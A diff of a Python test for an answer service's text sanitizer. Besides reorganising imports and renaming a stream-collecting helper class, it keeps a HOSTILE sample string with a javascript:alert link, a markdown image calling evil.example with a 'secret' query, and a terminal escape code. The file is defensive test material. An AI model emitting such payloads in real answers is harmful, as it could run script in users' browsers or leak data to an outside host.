@@ -7,16 +7,16 @@ import itertools
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from services.answer.extractive import Extractive
+from services.answer.engines.extractive import Extractive
 from services.answer.handler import Answerer
 from services.answer.ports import Draft, Speech
 from services.answer.settings import AnswerSettings
-from shared.clean import clean
-from shared.domain import Answer, Passage, PipelineRef, Question
-from shared.envelope import Envelope, opening
-from shared.facts import AnswerDrafted, PassagesRetrieved
-from shared.models.none import NoModels
-from shared.signals import Signal, Token
+from shared.contracts.domain import Answer, Passage, PipelineRef, Question
+from shared.contracts.envelope import Envelope, opening
+from shared.contracts.facts import AnswerDrafted, PassagesRetrieved
+from shared.contracts.signals import Signal, Token
+from shared.llm.none import NoModels
+from shared.text.sanitizer import clean
 
 HOSTILE = (
     "A passport costs <b>120</b> dollars. [See](javascript:alert(1)) ![x](https://evil.example/p.png?q=secret)\x1b[2J"
@@ -37,7 +37,7 @@ class Writes:
         return Draft(Answer(content="".join(self._pieces)))
 
 
-class Heard:
+class StreamAccumulator:
     """A speaker that keeps what it was given to say."""
 
     def __init__(self) -> None:
@@ -54,8 +54,8 @@ class Heard:
         return "".join(token.text for token in self.tokens if token.draft == newest)
 
 
-async def _answer(engine: Writes | Extractive, *passages: Passage) -> tuple[AnswerDrafted, Heard]:
-    heard = Heard()
+async def _answer(engine: Writes | Extractive, *passages: Passage) -> tuple[AnswerDrafted, StreamAccumulator]:
+    heard = StreamAccumulator()
     asked = Question(text="What does a passport cost?", language="eng", pivot_language="eng")
     retrieved = PassagesRetrieved(question=asked, passages=passages)
     envelope = opening("retrieval", retrieved, pipeline=PipelineRef(name="d", revision=1), deadline_seconds=60)
